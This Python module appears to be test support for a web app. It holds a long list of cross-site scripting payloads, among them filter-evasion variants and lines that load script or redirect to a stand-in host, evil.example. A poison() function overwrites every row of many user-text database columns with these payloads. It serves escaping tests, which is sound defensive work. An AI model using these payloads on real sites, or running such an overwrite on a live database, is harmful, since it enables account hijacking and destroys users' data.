"""Texts that would run as a script where they are not escaped, and where in the database people's texts are."""

from sqlalchemy import String, Text, update

from extensions import Base, db

RUN = "window.__xss=1"
_TAGS = (
    *(
        "<script>{0}</script>",
        "<ScRiPt>{0}</sCrIpT>",
        "<script src=//evil.example/x.js></script>",
        "<script/x>{0}</script>",
    ),
    *(
        "<img src=x onerror={0}>",
        "<img/src=x/onerror={0}>",
        "<svg onload={0}>",
        "<svg/onload={0}>",
        "<body onload={0}>",
    ),
    *("<iframe src=javascript:{0}>", "<iframe srcdoc='<script>parent.{0}</script>'>", "<object data=javascript:{0}>"),
    *(
        "<embed src=javascript:{0}>",
        "<a href=javascript:{0}>x</a>",
        "<a href='java\tscript:{0}'>x</a>",
        "<base href=//evil.example/>",
    ),
    *("<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<link rel=stylesheet href=//evil.example/x.css>"),
    *(
        "<style>@import'//evil.example'</style>",
        "<form action=//evil.example><input autofocus onfocus={0}>",
        "<input onfocus={0} autofocus>",
    ),
    *(
        "<details open ontoggle={0}>",
        "<video><source onerror={0}>",
        "<audio src=x onerror={0}>",
        "<marquee onstart={0}>",
    ),
    *(
        "<math><mtext></mtext><script>{0}</script>",
        "<template><script>{0}</script></template>",
        "<isindex action=javascript:{0}>",
    ),
    *(
        "<select autofocus onfocus={0}>",
        "<keygen autofocus onfocus={0}>",
        "<button onclick={0}>x</button>",
        "<p style=x:expression({0})>",
    ),
    *(
        "<!--<script>{0}</script>",
        "<![CDATA[<script>{0}</script>]]>",
        "<?xml?><script>{0}</script>",
        "<scr<script>ipt>{0}</script>",
    ),
    *(
        "<img src=x onerror=&#119;indow.__xss=1>",
        "<img src='x' onerror='{0}'>",
        '<img src="x" onerror="{0}">',
        "<svg><animate onbegin={0}>",
    ),
)
_BREAKS = (
    '">',
    "'>",
    "\">'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</option></select>",
    "-->",
    "</time>",
    "]]>",
)
_WITHOUT_TAGS = (
    *("javascript:{0}", "JaVaScRiPt:{0}", "data:text/html,<script>{0}</script>", "vbscript:{0}", "//evil.example/"),
    *(
        '" onmouseover="{0}" autofocus onfocus="{0}" x="',
        "' autofocus onfocus='{0}' x='",
        "x onfocus={0} autofocus",
        "`-{0}-`",
    ),
    *(
        "';{0};'",
        '";{0};"',
        "\\';{0};//",
        "${{{0}}}",
        "{{{{{0}}}}}",
        "{{% raw %}}{0}",
        "&lt;script&gt;{0}&lt;/script&gt;",
        "\u2028{0}",
    ),
)
PAYLOADS = tuple(
    payload.format(RUN) for payload in (*_TAGS, *(f"{end}<img src=x onerror={{0}}>" for end in _BREAKS), *_WITHOUT_TAGS)
)
#: columns of text that people, YouTube or X write
FREE = {
    "audit_events": ("detail",),
    "broadcasts": ("title",),
    "episode_guides": ("title", "notes", "link"),
    "episode_tweet_configs": ("text", "draft"),
    "podcasts": ("name", "title_filter", "default_text"),
    "post_attempts": ("error", "detail", "text"),
    "post_events": ("text", "detail"),
    "posts": ("text", "error", "host_name", "username", "url", "detail"),
    "social_connections": ("username", "display_name", "error", "name"),
    "users": ("name", "default_text"),
    "user_sessions": ("agent",),
    "youtube_channels": ("title", "error"),
    "job_runs": ("error",),
}


def poison(turn: int) -> int:
    """Writes a hostile text into every column of FREE, past all checks; others at each turn. Returns how many."""
    written = 0
    for table, columns in FREE.items():
        known = Base.metadata.tables.get(table)
        for name in columns if known is not None else ():
            if name in known.c and isinstance(known.c[name].type, String | Text):
                payload = PAYLOADS[(turn * 17 + written * 5) % len(PAYLOADS)]
                db.session.execute(update(known).values({name: payload}))
                written += 1
    db.session.commit()
    return written
